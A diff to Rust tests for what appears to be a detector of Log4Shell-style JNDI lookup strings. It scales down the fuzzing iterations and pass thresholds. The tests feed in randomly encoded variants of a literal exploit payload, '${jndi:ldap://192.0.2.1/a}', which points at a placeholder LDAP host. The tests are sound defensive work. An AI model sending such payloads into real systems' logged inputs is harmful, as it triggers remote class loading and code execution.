@@ -108,7 +108,7 @@ mod tests {
     fn no_nested_spelling_passes_by() {
         let mut rng = Rng::new(0x0024_007b);
         let mut real = 0;
-        for number in 0..20_000 {
+        for number in 0..6_000 {
             let mut text = b"${jndi:ldap://192.0.2.1/a}".to_vec();
             let layers = 1 + rng.below(4);
             let percent = *rng.pick(&[3, 20, 60]);
@@ -119,7 +119,7 @@ mod tests {
             assert!(may_hold_lookup(&text), "{number}: {text}");
             real += usize::from(rounds(&text).any(|bytes| holds_opening(&bytes)));
         }
-        assert!(real > 19_500, "{real}");
+        assert!(real > 5_850, "{real}");
     }
 
     fn holds_opening(bytes: &[u8]) -> bool {
@@ -135,13 +135,13 @@ mod tests {
         ];
         let mut rng = Rng::new(0x5eed);
         let mut passed = 0;
-        for _ in 0..200_000 {
+        for _ in 0..100_000 {
             let text: String = (0..2 + rng.below(10)).map(|_| *rng.pick(&PARTS)).collect();
             if !may_hold_lookup(&text) {
                 passed += 1;
                 assert!(!rounds(&text).any(|bytes| holds_opening(&bytes)), "{text}");
             }
         }
-        assert!(passed > 10_000, "{passed}");
+        assert!(passed > 5_000, "{passed}");
     }
 }
